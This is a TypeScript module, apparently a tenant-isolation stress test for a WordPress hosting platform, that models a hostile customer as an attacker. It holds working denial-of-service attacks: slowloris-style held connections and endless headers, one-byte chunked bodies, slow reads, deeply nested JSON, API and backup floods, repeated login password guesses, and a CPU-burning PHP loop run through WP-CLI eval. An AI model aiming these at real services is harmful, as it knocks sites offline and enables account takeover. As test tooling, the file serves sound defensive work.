/**
 * What a hostile company can do to others: everything that a holder of its API keys, its visitors and its sites' PHP can. Each
 * attack repeats itself until the process ends, and ignores the answers.
 */
import { Agent, request } from "node:http";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";

/** The attacker's company, and where it sends its requests. */
export interface Attacker {
  readonly apiUrl: string;
  readonly key: string;
  readonly companyId: string;
  readonly sites: readonly { readonly id: string; readonly environmentId: string; readonly address: string }[];
}

/** Another address than the victim's visitors have, as on the internet. */
const localAddress = "127.0.0.66";
const agent = new Agent({ keepAlive: true, maxSockets: 500 });
let number = 0;

interface Sent {
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer;
  /** Reads the response at a few bytes per second. */
  readonly isSlow?: boolean;
}

/** Resolves when the response has ended, whatever it is. */
function send(address: string, { method = "GET", headers = {}, body, isSlow = false }: Sent = {}): Promise<void> {
  const { host, port, pathname, search } = new URL(address);
  return new Promise((resolve) => {
    const length = body === undefined ? {} : { "content-length": String(Buffer.byteLength(body)) };
    const options = { host: "127.0.0.1", port, method, localAddress, agent, path: pathname + search };
    const sent = request({ ...options, headers: { host, ...length, ...headers } }, (response) => {
      response.once("close", resolve);
      if (isSlow) setInterval(() => response.read(1), 1_000);
      else response.resume();
    });
    // A refused connection must not become a loop that only burns this process's time.
    sent.once("error", () => setTimeout(resolve, 50));
    sent.end(body);
  });
}

/** Opens connections that send something and then nothing more, and replaces those that are closed. */
function hold(address: string, connections: number, sent: (host: string) => string): void {
  const { host, port } = new URL(address);
  const open = (): void => {
    const socket: Socket = connect({ host: "127.0.0.1", port: Number(port), localAddress });
    socket.once("connect", () => socket.write(sent(host)));
    socket.on("error", () => undefined).once("close", () => setTimeout(open, 100));
    socket.resume();
  };
  for (let count = 0; count < connections; count += 1) open();
}

/** Repeats the work, many times at once. */
function repeat(parallel: number, work: (runner: number) => Promise<unknown>): void {
  for (let runner = 0; runner < parallel; runner += 1) {
    void (async () => {
      for (;;) await work(runner);
    })();
  }
}

function siteOf({ sites }: Attacker, index: number) {
  const site = sites[index % sites.length];
  if (site === undefined) throw new Error("The attacker has no site");
  return site;
}

/** Requests a path of all sites. `{n}` becomes a different number each time. */
function visit(attacker: Attacker, parallel: number, path: string, sent: Sent = {}): void {
  repeat(parallel, (runner) => {
    number += 1;
    return send(`${siteOf(attacker, runner).address}${path.replace("{n}", String(number))}`, sent);
  });
}

function call({ apiUrl, key }: Attacker, method: string, path: string, body?: unknown, headers = {}): Promise<void> {
  const authorization = { authorization: `Bearer ${key}`, "content-type": "application/json", ...headers };
  return send(`${apiUrl}${path}`, {
    method,
    headers: authorization,
    ...(body === undefined ? {} : { body: typeof body === "string" ? body : JSON.stringify(body) }),
  });
}

/** Runs PHP code with WP-CLI in one of the sites. */
function evaluate(attacker: Attacker, site: number, code: string): Promise<void> {
  const path = `/sites/environments/${siteOf(attacker, site).environmentId}/run-wp-cli-command`;
  return call(attacker, "POST", path, { argv: ["eval", code] }, { "when-busy": "queue" });
}

/** Returns the id of the attacker's newest operation, or null. */
async function newestOperation({ apiUrl, key }: Attacker): Promise<string | null> {
  const answer = await fetch(`${apiUrl}/operations?limit=1`, { headers: { authorization: `Bearer ${key}` } });
  const found = /"id":"([^"]+)"/.exec(await answer.text());
  return found?.[1] ?? null;
}

const megabyte = "x".repeat(1_000_000);
const form = { "content-type": "application/x-www-form-urlencoded" };
/** Deep, long, and with a value that is refused in each place: the answer could be much larger than the request. */
const hostileJson = `{"search":${"[".repeat(50_000)}${Array(50).fill('"\\u0000"').join(",")}${"]".repeat(50_000)}}`;

export const attacks: Readonly<Record<string, (attacker: Attacker) => void>> = {
  "pages without a pause": (attacker) => visit(attacker, 8, "/?visit={n}"),
  "pages that use the processor": (attacker) => visit(attacker, 8, "/burn.php?visit={n}"),
  "pages that never end": (attacker) => visit(attacker, 40, "/sleep.php?visit={n}"),
  "pages that request their own site": (attacker) => visit(attacker, 10, "/loop.php?visit={n}"),
  "pages that write files": (attacker) =>
    visit(attacker, 8, "/write.php?visit={n}", { method: "POST", body: megabyte }),
  "pages that send mail": (attacker) => visit(attacker, 4, "/mail.php?visit={n}"),
  "sockets that PHP opens to its site and leaves open": (attacker) => visit(attacker, 10, "/sockets.php?visit={n}"),
  "static files": (attacker) => visit(attacker, 100, "/load.css"),
  "large responses, read slowly": (attacker) => visit(attacker, 50, "/large.php?visit={n}", { isSlow: true }),
  "many pages for the page cache": (attacker) => visit(attacker, 8, "/?lang={n}"),
  "guessed passwords": (attacker) =>
    visit(attacker, 8, "/wp-login.php", { method: "POST", headers: form, body: "log=owner&pwd=wrong" }),
  "bodies that never arrive": ({ sites }) => {
    for (const { address } of sites) {
      hold(address, 40, (host) => `POST /index.php HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 30000000\r\n\r\nx`);
    }
  },
  "bodies of one-byte chunks": ({ sites }) => {
    const head = (host: string) => `POST /index.php HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n`;
    for (const { address } of sites) hold(address, 5, (host) => `${head(host)}${"1\r\nx\r\n".repeat(100_000)}`);
  },
  "heads that never end, at the edge and the API": ({ apiUrl, sites }) => {
    for (const address of [apiUrl, ...sites.map((site) => site.address)]) {
      hold(address, 100, (host) => `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
    }
  },
  "API requests without a pause": (attacker) => repeat(16, () => call(attacker, "GET", "/validate")),
  "hostile JSON": (attacker) =>
    repeat(4, () => call(attacker, "GET", `/company/${attacker.companyId}/wp-plugins`, hostileJson)),
  "changes of the routing table": (attacker) =>
    repeat(4, (runner) => {
      number += 1;
      const body = { environment_id: siteOf(attacker, runner).environmentId, ip_list: [`203.0.113.${number % 250}`] };
      return call(attacker, "PUT", "/sites/tools/denied-ips", body);
    }),
  "one idempotency key in many requests": (attacker) =>
    repeat(20, () => {
      const { environmentId } = siteOf(attacker, 0);
      const body = { email: "hang@example.com", first_name: "H", last_name: "Ang" };
      return call(attacker, "POST", `/sites/environments/${environmentId}/wpa-create-user`, body, {
        "idempotency-key": `key-${Math.floor(Date.now() / 5_000)}`,
      });
    }),
  "WP-CLI commands that use the processor": (attacker) =>
    repeat(8, (runner) => evaluate(attacker, runner, "for (;;) { md5(random_bytes(64)); }")),
  "searches for users": (attacker) =>
    repeat(8, (runner) => {
      const { environmentId } = siteOf(attacker, runner);
      return call(attacker, "GET", `/sites/environments/${environmentId}/wpa-user-exists?email=a@example.com`);
    }),
  backups: (attacker) =>
    repeat(8, async (runner) => {
      const { environmentId } = siteOf(attacker, runner);
      await call(attacker, "POST", `/sites/environments/${environmentId}/manual-backups`, { tag: "again" });
      await delay(200);
    }),
  "new sites": (attacker) =>
    repeat(4, async () => {
      number += 1;
      const site = { company: attacker.companyId, display_name: `New ${number}`, region: "europe-west3" };
      await call(attacker, "POST", "/sites/plain", site);
      await delay(500);
    }),
  "open waits for operations": (attacker) =>
    repeat(100, async (runner) => {
      if (runner === 0) await evaluate(attacker, 0, "sleep(60);");
      const id = await newestOperation(attacker).catch(() => null);
      if (id === null) await delay(1_000);
      else await call(attacker, "GET", `/operations/${encodeURIComponent(id)}?wait=30`);
    }),
};
